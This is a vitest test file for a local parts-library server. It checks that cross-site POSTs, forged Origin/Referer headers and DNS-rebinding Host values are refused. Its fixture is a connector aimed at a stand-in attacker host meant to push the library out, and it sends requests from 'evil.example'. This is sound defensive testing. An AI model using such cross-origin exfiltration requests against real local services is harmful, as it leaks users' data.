import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startServer, type RunningServer } from '../src/server'
import { closeRawAgent, sendRaw, type RawRequest } from './reliability/raw-http'

// Any web page could once change the library (a `no-cors` POST of JSON
// as text/plain created a connector that pushed the library to an outside address) and,
// through DNS rebinding, read it. Each test sends exactly what a browser sends.

const CONNECTOR = JSON.stringify({ name: 'x', config: { url: 'http://attacker.invalid/hook', cron: '*/5 * * * * *' } })
const TRUSTED = 'https://parts.example.com'

let server: RunningServer
let dataDir: string
let port: string
beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'complib-browser-'))
  server = await startServer({ port: 0, dataDir, allowedOrigins: [TRUSTED], allowedHosts: ['parts.local'], log: () => {} })
  port = new URL(server.url).port
})
afterAll(async () => {
  closeRawAgent()
  await server?.close()
  if (dataDir) rmSync(dataDir, { recursive: true, force: true })
})

const send = (req: RawRequest) => sendRaw(server.url, req)
const connectorCount = async () => (await server.storage.connectors.list({ limit: 100 })).total

describe('browser safety', () => {
  it('a page on another site created a connector with a no-cors text/plain POST; now 415 and nothing is created', async () => {
    const res = await send({ method: 'POST', path: '/api/connectors', headers: { 'content-type': 'text/plain;charset=UTF-8' }, body: CONNECTOR })
    expect(res.status, res.text).toBe(415)
    expect(res.contentType).toBe('application/problem+json')
    expect(await connectorCount()).toBe(0)
  })

  it('form-encoded and type-less JSON bodies are a 415 too (the other content types a page sends without a preflight)', async () => {
    for (const headers of [{ 'content-type': 'application/x-www-form-urlencoded' }, { 'content-type': 'multipart/form-data; boundary=x' }, {}] as Array<Record<string, string>>) {
      const res = await send({ method: 'POST', path: '/api/connectors', headers, body: CONNECTOR })
      expect(res.status, JSON.stringify(headers)).toBe(415)
    }
    expect(await connectorCount()).toBe(0)
  })

  it('a text/plain bulk delete answered 200; now it is refused and every component stays', async () => {
    const created = await send({ method: 'POST', path: '/api/components', headers: { 'content-type': 'application/json' }, body: '{"name":"kept"}' })
    const id = JSON.parse(created.text).id as string
    const res = await send({ method: 'POST', path: '/api/bulk/components/delete', headers: { 'content-type': 'text/plain', origin: 'http://evil.example' }, body: JSON.stringify({ ids: [id] }) })
    expect(res.status).toBe(403)
    const plain = await send({ method: 'POST', path: '/api/bulk/components/delete', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ ids: [id] }) })
    expect(plain.status).toBe(415)
    expect((await server.storage.components.get(id)).deletedAt).toBeNull()
  })

  it('a state-changing request from another origin is a 403 problem, even as proper JSON', async () => {
    const foreign: Array<Record<string, string>> = [
      { origin: 'http://evil.example' },
      { origin: 'null' },
      { origin: `http://localhost:${Number(port) + 1}` },
      { 'sec-fetch-site': 'cross-site' },
      { 'sec-fetch-site': 'same-site' },
      { referer: 'http://evil.example/page.html' },
    ]
    for (const headers of foreign) {
      const res = await send({ method: 'POST', path: '/api/connectors', headers: { 'content-type': 'application/json', ...headers }, body: CONNECTOR })
      expect(res.status, JSON.stringify(headers)).toBe(403)
      expect(JSON.parse(res.text)).toMatchObject({ code: 'FORBIDDEN', detail: expect.stringContaining('--allowed-origin') })
    }
    for (const method of ['PATCH', 'PUT', 'DELETE']) {
      const res = await send({ method, path: '/api/components/cmp_00000000000000000000000000', headers: { origin: 'http://evil.example', 'content-type': 'application/json' }, body: '{}' })
      expect(res.status, method).toBe(403)
    }
    expect(await connectorCount()).toBe(0)
  })

  it('a rebound page (Host: attacker.example) read GET /api/connectors; now every request to a foreign Host is a 403', async () => {
    for (const path of ['/api/connectors', '/api/components', '/api/exports/backup', '/api/health']) {
      const res = await send({ method: 'GET', path, headers: { host: `attacker.example:${port}` } })
      expect(res.status, path).toBe(403)
      expect(res.text).toContain('DNS rebinding')
    }
  })

  it('passes requests without Origin, Sec-Fetch-Site or Referer (curl, scripts, KiCad)', async () => {
    const res = await send({ method: 'POST', path: '/api/tags', headers: { 'content-type': 'application/json' }, body: '{"name":"from-curl"}' })
    expect(res.status, res.text).toBe(201)
  })

  it("passes the server's own pages: same-origin Origin, Sec-Fetch-Site same-origin or none, a same-origin Referer", async () => {
    const cases: Array<Record<string, string>> = [
      { origin: `http://127.0.0.1:${port}` },
      { origin: `http://localhost:${port}`, host: `localhost:${port}` },
      { 'sec-fetch-site': 'same-origin' },
      { 'sec-fetch-site': 'none' },
      { referer: `http://127.0.0.1:${port}/api/docs/ui` },
    ]
    for (const [i, headers] of cases.entries()) {
      const res = await send({ method: 'POST', path: '/api/tags', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ name: `own-${i}` }) })
      expect(res.status, JSON.stringify(headers)).toBe(201)
      expect(res.headers['access-control-allow-origin']).toBeUndefined()
    }
  })

  it('accepts the loopback names and the configured --allowed-host, with any port', async () => {
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, 'localhost', `[::1]:${port}`, `127.1.2.3:${port}`, `parts.local:${port}`, 'PARTS.LOCAL']) {
      const res = await send({ method: 'GET', path: '/api/health', headers: { host } })
      expect(res.status, host).toBe(200)
    }
  })

  it('an allowed origin may change the library and gets exactly its own origin back in CORS headers', async () => {
    const res = await send({ method: 'POST', path: '/api/tags', headers: { 'content-type': 'application/json', origin: TRUSTED }, body: '{"name":"from-trusted"}' })
    expect(res.status, res.text).toBe(201)
    expect(res.headers['access-control-allow-origin']).toBe(TRUSTED)
    expect(res.headers.vary).toContain('Origin')
    expect(String(res.headers['access-control-expose-headers'])).toContain('x-total-count')
    // Errors carry them too, so the front end can read the problem.
    const bad = await send({ method: 'POST', path: '/api/tags', headers: { 'content-type': 'application/json', origin: TRUSTED }, body: '{}' })
    expect(bad.status).toBe(400)
    expect(bad.headers['access-control-allow-origin']).toBe(TRUSTED)
  })

  it('answers a CORS preflight for the allowed origin only; no CORS headers for any other origin', async () => {
    const preflight = await send({ method: 'OPTIONS', path: '/api/components', headers: { origin: TRUSTED, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' } })
    expect(preflight.status).toBe(204)
    expect(preflight.headers['access-control-allow-origin']).toBe(TRUSTED)
    expect(String(preflight.headers['access-control-allow-methods'])).toContain('PATCH')
    expect(String(preflight.headers['access-control-allow-headers'])).toContain('if-match')
    // A page of an allowed origin may say why it writes (Complib-Comment), and read the request id back.
    expect(String(preflight.headers['access-control-allow-headers'])).toContain('complib-comment')
    const other = await send({ method: 'OPTIONS', path: '/api/components', headers: { origin: 'http://evil.example', 'access-control-request-method': 'POST' } })
    expect(other.status).toBe(204)
    expect(other.headers['access-control-allow-origin']).toBeUndefined()
    const get = await send({ method: 'GET', path: '/api/components', headers: { origin: 'http://evil.example' } })
    expect(get.status).toBe(200)
    expect(get.headers['access-control-allow-origin']).toBeUndefined()
  })
})

describe('browser safety without configuration', () => {
  it('sends no CORS headers at all, and off loopback (behind the API key) answers to any Host', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'complib-browser-'))
    const open = await startServer({ host: '0.0.0.0', port: 0, dataDir: dir, apiKey: 'k3y', log: () => {} })
    try {
      const base = `http://127.0.0.1:${new URL(open.url).port}`
      const res = await sendRaw(base, { method: 'GET', path: '/api/health', headers: { host: 'parts.example.com', origin: TRUSTED, authorization: 'Bearer k3y' } })
      expect(res.status).toBe(200)
      expect(res.headers['access-control-allow-origin']).toBeUndefined()
      const write = await sendRaw(base, { method: 'POST', path: '/api/tags', headers: { host: 'parts.example.com', origin: 'http://evil.example', authorization: 'Bearer k3y', 'content-type': 'application/json' }, body: '{"name":"t"}' })
      expect(write.status).toBe(403)
    } finally {
      await open.close()
      rmSync(dir, { recursive: true, force: true })
    }
  })

  it('refuses to start with an --allowed-origin that is not an origin', async () => {
    await expect(startServer({ port: 0, dataDir: dataDir, allowedOrigins: ['parts.example.com/app'] })).rejects.toThrow(/--allowed-origin/)
  })
})
